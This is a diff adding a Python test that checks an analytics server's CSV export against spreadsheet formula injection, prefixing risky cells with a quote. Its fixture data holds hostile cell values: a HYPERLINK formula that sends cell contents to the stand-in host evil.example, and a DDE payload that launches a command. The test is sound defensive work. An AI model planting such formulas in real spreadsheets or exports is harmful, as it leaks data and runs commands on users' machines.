@@ -261,3 +261,27 @@ def test_export_imports_again_with_identical_answers(tmp_path: Path) -> None:
         client.close()
     finally:
         target.stop()
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(fresh_server: Server) -> None:
+    """Event names and properties come from an app's users (the ingest key ships in the app): a CSV cell that
+    a spreadsheet would run (= + - @, tab, CR) gets a leading quote; plain numbers, NDJSON and Parquet keep
+    the text as sent."""
+    a = fresh_server.create_app("csv-injection")
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    doc = {"sessionId": "csv-1", "user": {"uxcamuserid": "u-csv", "alias": "@admin", "note": link, "debt": "-5"},
+           "events": [{"name": "=1+1", "timeSec": 1, "properties": {"q": "+cmd|' /C calc'!A0"}},
+                      {"name": "-2+3", "timeSec": 2}, {"name": "plain", "timeSec": 3}]}
+    fresh_server.start()
+    with fresh_server.client() as client:
+        ingest(client, a, [doc])
+        events = list(csv.DictReader(io.StringIO(export(client, a.read_headers, "event", "csv").text)))
+        sessions = list(csv.DictReader(io.StringIO(export(client, a.read_headers, "session", "csv").text)))
+        raw = ndjson(export(client, a.read_headers, "event", "ndjson").content)
+    assert sorted(e["eventName"] for e in events) == ["'-2+3", "'=1+1", "plain"]
+    assert sorted(e["eventName"] for e in raw) == ["-2+3", "=1+1", "plain"]  # NDJSON: as sent
+    (row,) = sessions
+    assert row["user.alias"] == "'@admin" if "user.alias" in row else json.loads(row["user"])["alias"] == "@admin"
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in events + sessions for v in r.values() if v)
+    assert not any(v.startswith("-") and not v.lstrip("-").replace(".", "", 1).isdigit()
+                   for r in events + sessions for v in r.values() if v)
